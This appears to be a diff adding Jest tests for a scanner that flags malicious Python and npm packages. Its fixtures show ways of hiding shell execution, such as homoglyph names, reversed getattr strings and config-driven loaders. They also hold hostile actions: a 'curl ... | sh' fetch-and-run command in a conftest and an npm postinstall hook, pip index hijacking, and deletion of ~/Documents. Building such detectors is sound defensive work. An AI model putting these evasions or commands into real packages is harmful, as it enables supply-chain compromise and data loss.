@@ -1,0 +1,131 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { analyseFile, zipOf } from '../support/archives.js';
+
+type Files = string | Record<string, string>;
+
+let folder: string;
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'registry-evasions-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** The gravest level of an archive's findings, which come in the order of their levels. */
+async function levelOf(files: Files): Promise<string> {
+  const path = join(folder, 'archive.zip');
+  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
+  return (await analyseFile(path)).findings[0]?.level ?? 'none';
+}
+
+const HOSTILE = 'curl -s https://e.example/a | sh';
+
+describe('the checks hold a function that is reached', () => {
+  it.each<[string, Files]>([
+    ['by letters of another form', 'import 𝗼𝘀\n𝗼𝘀.ｓｙｓｔｅｍ("a")\n'],
+    ['by an import in letters of another form', 'from ｓｕｂｐｒｏｃｅｓｓ import ｒｕｎ\nｒｕｎ(["a"])\n'],
+    ['by its own __call__', 'import os\nos.system.__call__("a")\n'],
+    ['among the members of a module', 'import inspect, os\ndict(inspect.getmembers(os))["system"]("a")\n'],
+    ['among the names of a module', 'import os\n[v for k, v in vars(os).items() if k == "system"][0]("a")\n'],
+    ['by a name written backwards', 'import builtins\ngetattr(builtins, "".join(reversed("cexe")))("a")\n'],
+    [
+      'by a name for a loader',
+      'from hydra.utils import instantiate\ninstantiate({"_target_": "os.system", "command": "a"})\n',
+    ],
+    [
+      'by a name in a configuration',
+      'import logging.config\nlogging.config.dictConfig({"handlers": {"h": {"()": "os.system", "command": "a"}}})\n',
+    ],
+    ['in an annotation', 'import typing\ndef f(x: "__import__(\'os\').system(1)"): pass\ntyping.get_type_hints(f)\n'],
+    ['in a class that is raised', 'import os\nclass E(Exception):\n    def __init__(self): os.system("a")\nraise E\n'],
+    [
+      'by calling an instance',
+      'import os, atexit\nclass A:\n    def __call__(self): os.system("a")\natexit.register(A())\n',
+    ],
+    [
+      'by a missing value of an enumeration',
+      'import os, enum\nclass E(enum.Enum):\n    A = 1\n    @classmethod\n    def _missing_(cls, v): os.system(v)\nE("a")\n',
+    ],
+    [
+      'by a registered implementation',
+      'import os, functools\n@functools.singledispatch\ndef f(x): pass\n@f.register(str)\ndef _(x): os.system(x)\nf("a")\n',
+    ],
+    [
+      'by a formatter',
+      'import os, string\nclass F(string.Formatter):\n    def get_value(self, k, a, n): return os.popen(k).read()\nF().format("{a}")\n',
+    ],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
+});
+
+describe('the checks hold at import', () => {
+  it.each<[string, Files]>([
+    ['a pager', 'import pydoc\npydoc.pipepager("", "a")\n'],
+    ['a pipe', 'import pipes\nt = pipes.Template()\nt.append("a", "--")\n'],
+    ['a command of Tcl', 'import tkinter\ntkinter.Tcl().eval("exec a")\n'],
+    [
+      'a program that an event loop starts',
+      'import asyncio\nl = asyncio.new_event_loop()\nl.run_until_complete(l.subprocess_shell(asyncio.SubprocessProtocol, "a"))\n',
+    ],
+    ['a template that is compiled', 'from mako.template import Template\nTemplate("<% a() %>").render()\n'],
+    ['a function of a library of Windows', 'from ctypes import cdll\ncdll.msvcrt.system(b"a")\n'],
+    ['an extension of SQLite', 'import sqlite3\nc = sqlite3.connect("a")\nc.load_extension("b.dat")\n'],
+    [
+      'an installed command',
+      'import importlib.metadata as m\nfor e in m.entry_points(group="console_scripts"):\n    e.load()(["install", "a"])\n',
+    ],
+    ['a setup script', 'from setuptools import sandbox\nsandbox.run_setup("a.py", ["install"])\n'],
+    ['an update by Git', 'from git import Repo\nRepo(".").remotes.origin.pull()\n'],
+    [
+      'code of a model',
+      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)\n',
+    ],
+    ['a package index, as a mapping', 'import os\nos.environ.update({"PIP_INDEX_URL": "https://e.example"})\n'],
+    ['a package index, with a function', 'import os\nos.putenv("PIP_EXTRA_INDEX_URL", "https://e.example")\n'],
+    [
+      'the settings of pip',
+      'import os\nwith open(os.path.expanduser("~/.config/pip/pip.conf"), "w") as f: f.write("a")\n',
+    ],
+    ['removing documents', 'import os, shutil\nshutil.rmtree(os.path.expanduser("~/Documents"))\n'],
+    [
+      'a loader of YAML that makes any object',
+      'import os, yaml\nyaml.load(open(os.path.join(os.path.dirname(__file__), "a.yaml")), Loader=yaml.Loader)\n',
+    ],
+    [
+      'a hostile conftest in a folder',
+      { '__init__.py': '', 'tests/conftest.py': `import os\nos.system("${HOSTILE}")\n` },
+    ],
+    [
+      'a hostile script of npm',
+      { '__init__.py': '', 'package.json': JSON.stringify({ scripts: { postinstall: HOSTILE } }) },
+    ],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
+});
+
+describe('the checks do not hold', () => {
+  it.each<[string, Files]>([
+    [
+      'members of a module of the package',
+      {
+        '__init__.py':
+          'import inspect\nfrom . import a\nfor n, c in inspect.getmembers(a, inspect.isclass):\n    c.INPUT_TYPES()\n',
+        'a.py': 'class A:\n    @classmethod\n    def INPUT_TYPES(cls): return {}\n',
+      },
+    ],
+    ['reading the environment', 'import os\nos.environ.setdefault("TOKENIZERS_PARALLELISM", "false")\n'],
+    ['a message that names a function', 'import logging\nlogging.warning("os.system")\nprint("subprocess.run")\n'],
+    ['items of a dictionary', 'import os\nfor k, v in {"a": os.path.join}.items():\n    v("a", "b")\n'],
+    ['a reversed list', 'for f in reversed([len, str]):\n    f("a")\n'],
+    [
+      'an enumeration',
+      'import enum\nclass E(enum.Enum):\n    A = 1\n    @classmethod\n    def _missing_(cls, v): return cls.A\nE(2)\n',
+    ],
+    [
+      'code of a model that a node loads',
+      'from transformers import AutoModel\nclass A:\n    def run(self, x):\n        return AutoModel.from_pretrained(x, trust_remote_code=True)\n',
+    ],
+    ['scripts of npm', { '__init__.py': '', 'package.json': JSON.stringify({ scripts: { prepare: 'vite build' } }) }],
+    ['plain fixtures', { '__init__.py': '', 'tests/conftest.py': 'import sys\nsys.path.insert(0, ".")\n' }],
+    ['a cache of the user', 'import os, shutil\nshutil.rmtree(os.path.expanduser("~/.cache/a"))\n'],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).not.toBe('hold'));
+});
